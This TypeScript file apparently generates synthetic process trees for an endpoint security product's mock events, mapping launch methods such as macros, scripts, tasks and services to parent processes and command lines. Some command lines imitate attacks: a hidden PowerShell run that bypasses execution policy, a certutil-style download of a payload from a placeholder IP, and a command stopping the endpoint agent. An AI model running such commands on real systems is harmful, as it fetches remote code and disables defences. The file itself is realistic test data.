// The process tree of an event: how a file gets started (its Launch) decides its parents.
import type { components } from '../../../src/gen/openapi.gen';
import type { Random } from '../random';
import { SYS, type Proc } from './system-binaries';
import type { Launch } from './vocabulary';

/**
 * A process of an event's tree as stored with a file's variant (SecurityEvent.processTree
 * without what depends on the event: the account each process ran as and whether it was
 * blocked, which the event's reply adds: sandbox/http/process-tree.ts).
 */
export type ProcessNode = Omit<components['schemas']['ProcessNode'], 'userName' | 'blocked' | 'children'> & {
  children: ProcessNode[];
};

/** A process of a tree: a system binary or a file of the catalogue. */
export const processNode = (
  processId: number,
  p: Proc,
  commandLine: string | null,
  children: ProcessNode[] = [],
): ProcessNode => ({
  processId,
  processName: p.name,
  filePath: p.path,
  sha256: p.sha256,
  publisher: p.publisher,
  commandLine,
  children,
});

export const quoted = (path: string) => (path.includes(' ') ? `"${path}"` : path);

export function buildTree(
  rng: Random,
  launch: Launch,
  file: { name: string; path: string; sha256: string; publisher: string | null },
): ProcessNode {
  const pid = () => rng.int(200, 5000) * 4;
  const node = (p: Proc, commandLine: string | null, children: ProcessNode[] = []) =>
    processNode(pid(), p, commandLine, children);
  const self = (commandLine: string) => node({ ...file }, commandLine);
  const explorer = (children: ProcessNode[]) => node(SYS.explorer!, 'C:\\Windows\\Explorer.EXE', children);
  switch (launch) {
    case 'browser':
      return explorer([node(SYS.chrome!, `"${SYS.chrome!.path}"`, [self(quoted(file.path))])]);
    case 'outlook':
      return explorer([node(SYS.outlook!, `"${SYS.outlook!.path}"`, [self(quoted(file.path))])]);
    case 'macro': {
      const doc = `"${SYS.excel!.path}" "C:\\Users\\{user}\\Downloads\\Remittance_${rng.int(1000, 9999)}.xlsm"`;
      const child = file.name.toLowerCase().endsWith('.ps1')
        ? node(
            SYS.powershell!,
            `powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -File ${quoted(file.path)}`,
          )
        : self(`${quoted(file.path)} -urlcache -split -f http://203.0.113.${rng.int(2, 254)}/a.bin`);
      return explorer([node(SYS.excel!, doc, [child])]);
    }
    case 'script': {
      const lower = file.name.toLowerCase();
      if (lower.endsWith('.bat') || lower.endsWith('.cmd'))
        return explorer([node(SYS.cmd!, `C:\\Windows\\system32\\cmd.exe /c ${quoted(file.path)}`)]);
      return explorer([
        node(SYS.powershell!, `powershell.exe -NoProfile -ExecutionPolicy Bypass -File ${quoted(file.path)}`),
      ]);
    }
    case 'vbs':
      return explorer([node(SYS.wscript!, `"C:\\Windows\\System32\\wscript.exe" ${quoted(file.path)}`)]);
    case 'task':
      return node(SYS.svchost!, 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', [
        node(SYS.cmd!, `C:\\Windows\\system32\\cmd.exe /c ${quoted(file.path)}`, [self(quoted(file.path))]),
      ]);
    case 'service':
      return node(SYS.services!, 'C:\\Windows\\system32\\services.exe', [self(quoted(file.path))]);
    case 'rundll':
      return explorer([
        node(SYS.rundll32!, `C:\\Windows\\System32\\rundll32.exe ${file.path},DllRegisterServer`),
      ]);
    case 'msi':
      return explorer([node(SYS.msiexec!, `C:\\Windows\\System32\\msiexec.exe /i ${quoted(file.path)}`)]);
    case 'tamper':
      return explorer([
        node(SYS.cmd!, '"C:\\Windows\\system32\\cmd.exe"', [self(`${file.name} stop EndpointAgent`)]),
      ]);
    case 'driver':
      return node(SYS.system!, null, [self(file.path)]);
    case 'dev': {
      const args =
        file.name === 'python.exe'
          ? '-m pip install -r requirements.txt'
          : file.name === 'git.exe'
            ? 'fetch origin'
            : 'server.js';
      return explorer([node(SYS.code!, `"${SYS.code!.path}"`, [self(`${quoted(file.path)} ${args}`)])]);
    }
    case 'usb':
    case 'explorer':
    default:
      return explorer([self(quoted(file.path))]);
  }
}
